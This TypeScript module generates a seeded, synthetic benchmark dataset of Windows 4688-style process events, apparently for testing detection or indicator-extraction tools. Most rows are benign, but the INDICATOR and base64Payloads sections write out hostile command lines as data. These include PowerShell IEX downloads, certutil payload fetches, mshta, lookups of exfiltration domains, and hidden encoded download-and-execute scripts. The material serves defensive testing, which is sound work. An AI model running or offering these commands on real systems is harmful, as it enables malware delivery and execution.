/**
 * Generates the big-data bench's process events: Windows 4688-like rows in
 * daily hive partitions (`procs/date=YYYY-MM-DD/part-0.parquet`), seeded, with
 * command lines of which some carry indicators (URLs, IPs, domains, hashes)
 * and some base64 (`powershell -enc` UTF-16LE scripts, plain base64 text).
 */
import fs from "node:fs";
import path from "node:path";
import pl from "nodejs-polars";
import { seededRandom } from "../test/helpers/random";

/** What was generated. */
export interface BigDataset {
  root: string;
  rows: number;
  days: string[];
  hosts: string[];
}

const PROCESSES = [
  "C:\\Windows\\System32\\svchost.exe",
  "C:\\Windows\\System32\\cmd.exe",
  "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
  "C:\\Windows\\System32\\conhost.exe",
  "C:\\Windows\\System32\\rundll32.exe",
  "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
  "C:\\Windows\\System32\\taskhostw.exe",
  "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
  "C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe",
  "C:\\Windows\\System32\\net.exe",
  "C:\\Windows\\System32\\reg.exe",
  "C:\\Windows\\System32\\sc.exe",
];

const BENIGN = [
  "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
  "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p",
  "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
  "cmd.exe /c dir C:\\Users\\Public\\Documents",
  "rundll32.exe C:\\Windows\\system32\\shell32.dll,Control_RunDLL",
  "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
  "taskhostw.exe KEYROAMING",
  "\"C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle=1640",
  "net.exe use Z: \\\\fileserver\\share",
  "reg.exe query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
  "sc.exe query wuauserv",
  "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",
];

const INDICATOR = [
  (n: number) => `powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('http://update-${n % 97}.badguy-cdn.example.com/stage2.ps1')"`,
  (n: number) => `cmd.exe /c certutil -urlcache -split -f http://203.0.113.${n % 250}/payload.exe C:\\Users\\Public\\p.exe`,
  (n: number) => `mshta.exe http://intranet-${n % 13}/file.hta`,
  (n: number) => `cmd.exe /c ping -n 1 198.51.100.${n % 200} && nslookup exfil${n % 31}.evil-domain.net`,
  (n: number) => `certutil -hashfile C:\\Temp\\x${n % 50}.exe SHA256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a${String(n % 90).padStart(2, "0")}`,
];

/** `powershell -enc` payloads (UTF-16LE base64, as attackers write them) and plain base64 text. */
function base64Payloads(): string[] {
  const out: string[] = [];
  for (let i = 0; i < 40; i++) {
    const script = `$c=New-Object Net.WebClient;$c.DownloadFile('http://198.51.100.${i}/drop${i}.exe','C:\\Users\\Public\\d${i}.exe');Start-Process C:\\Users\\Public\\d${i}.exe`;
    out.push(`powershell.exe -NoP -W Hidden -enc ${Buffer.from(script, "utf16le").toString("base64")}`);
    out.push(`cmd.exe /c echo ${Buffer.from(`curl http://malicious-${i}.example.net/beacon?id=${i * 7919}`).toString("base64")} > C:\\Temp\\b${i}.txt`);
  }
  return out;
}

function pad(n: number, width: number): string {
  return String(n).padStart(width, "0");
}

/** The command line of one row: mostly benign (with a varying argument), ~1% with an indicator, ~0.3% with base64. */
function commandLine(random: () => number, payloads: readonly string[]): string {
  const r = random();
  if (r < 0.003) return payloads[Math.floor(random() * payloads.length)];
  if (r < 0.013) return INDICATOR[Math.floor(random() * INDICATOR.length)](Math.floor(random() * 100_000));
  const base = BENIGN[Math.floor(random() * BENIGN.length)];
  return r < 0.5 ? base : `${base} /id ${Math.floor(random() * 5000)}`;
}

/**
 * Writes `rows` events over `days` days from 2026-11-01 under `root/procs`,
 * sorted by time within each day (as exports are); times in ns, UTC, as pandas writes Sentinel exports.
 */
export function generateBigData(root: string, rows: number, dayCount = 30, hostCount = 500): BigDataset {
  const random = seededRandom(2026);
  const payloads = base64Payloads();
  const hosts = Array.from({ length: hostCount }, (_, i) => `WS-${pad(i, 4)}.contoso.local`);
  const users = Array.from({ length: 3000 }, (_, i) => `user${pad(i, 4)}`);
  const days: string[] = [];
  const perDay = Math.ceil(rows / dayCount);
  let written = 0;
  for (let d = 0; d < dayCount && written < rows; d++) {
    const t0 = Date.UTC(2026, 10, 1 + d);
    const day = new Date(t0).toISOString().slice(0, 10);
    const n = Math.min(perDay, rows - written);
    const offsets = new Float64Array(n);
    for (let i = 0; i < n; i++) offsets[i] = Math.floor(random() * 86_400_000);
    offsets.sort();
    const times = new Array<Date>(n);
    const computers = new Array<string>(n);
    const accounts = new Array<string>(n);
    const logonIds = new Array<string>(n);
    const images = new Array<string>(n);
    const parents = new Array<string>(n);
    const pids = new Array<string>(n);
    const ppids = new Array<string>(n);
    const commands = new Array<string>(n);
    for (let i = 0; i < n; i++) {
      times[i] = new Date(t0 + offsets[i]);
      computers[i] = hosts[Math.floor(random() * hostCount)];
      accounts[i] = `CONTOSO\\${users[Math.floor(random() * users.length)]}`;
      logonIds[i] = `0x${Math.floor(random() * 0xfffff).toString(16)}`;
      images[i] = PROCESSES[Math.floor(random() * PROCESSES.length)];
      parents[i] = PROCESSES[Math.floor(random() * PROCESSES.length)];
      pids[i] = `0x${Math.floor(random() * 0xffff).toString(16)}`;
      ppids[i] = `0x${Math.floor(random() * 0xffff).toString(16)}`;
      commands[i] = commandLine(random, payloads);
    }
    // Sub-millisecond digits, as MDE and Sysmon exports carry (100 ns).
    const ticks = pl.Series("ticks", Array.from({ length: n }, () => Math.floor(random() * 10_000) * 100), pl.Int64);
    const df = pl
      .DataFrame([
        pl.Series("TimeGenerated", times),
        ticks,
        pl.Series("Computer", computers),
        pl.Series("EventID", new Array<number>(n).fill(4688), pl.Int32),
        pl.Series("Account", accounts),
        pl.Series("SubjectLogonId", logonIds),
        pl.Series("NewProcessName", images),
        pl.Series("NewProcessId", pids),
        pl.Series("ParentProcessName", parents),
        pl.Series("ProcessId", ppids),
        pl.Series("CommandLine", commands),
        pl.Series("TokenElevationType", computers.map((_, i) => (i % 7 ? "%%1936" : "%%1937"))),
      ])
      .withColumn(
        pl.col("TimeGenerated").cast(pl.Datetime("ns")).cast(pl.Int64).add(pl.col("ticks")).cast(pl.Datetime("ns")).dt.replaceTimeZone("UTC").alias("TimeGenerated"),
      )
      .drop("ticks");
    const dir = path.join(root, "procs", `date=${day}`);
    fs.mkdirSync(dir, { recursive: true });
    df.writeParquet(path.join(dir, "part-0.parquet"), { compression: "zstd" });
    days.push(day);
    written += n;
  }
  return { root, rows: written, days, hosts };
}
